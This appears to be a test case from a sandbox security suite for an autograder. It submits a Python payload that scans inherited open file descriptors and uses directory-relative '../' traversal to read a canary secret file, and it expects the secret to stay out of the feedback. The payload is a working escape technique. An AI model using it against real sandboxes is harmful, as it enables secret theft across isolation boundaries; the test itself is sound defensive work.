"""Files and folders that the starter left open: a way out of any root."""

from hostile.corpus import SECRET_FILE, Case, Expect, strike

EXPECT = Expect(score=10, feedback_absent=(SECRET_FILE,))

PAYLOAD = """
import os

def show(path):
    try:
        with open(path, "rb") as file:
            print("leak:", path, file.read(2000))
    except OSError as error:
        print(path, error.strerror)

def walk(root):
    found = 0
    for folder, _, names in os.walk(root):
        for name in names:
            show(os.path.join(folder, name))
            found += 1
            if found == 50:
                return

import stat
for number in range(3, 256):
    try:
        mode = os.fstat(number).st_mode
    except OSError:
        continue
    if stat.S_ISDIR(mode):
        try:
            climb = os.open("../" * 20 + @CANARY@.lstrip("/"), os.O_RDONLY, dir_fd=number)
            print("leak:", os.read(climb, 100))
        except OSError as error:
            print(number, error.strerror)
"""


def submit(case: Case) -> None:
    strike(case, PAYLOAD, solved=("total", "receipt", "quiz-sum"))
